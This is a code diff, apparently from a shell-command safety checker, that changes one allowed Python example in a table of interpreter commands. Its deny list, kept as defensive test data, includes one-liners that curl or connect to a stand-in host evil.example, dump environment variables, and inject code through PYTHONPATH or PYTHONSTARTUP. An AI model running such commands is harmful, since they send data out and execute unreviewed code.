@@ -609,7 +609,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     analyze: python,
     examples: {
       deny: [`printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"'],
-      pass: [`printf 'print(1)\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py"],
+      pass: [`printf 'print(1)\n' > p/x.py && PYTHONPATH=p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py"],
     },
   },
   {
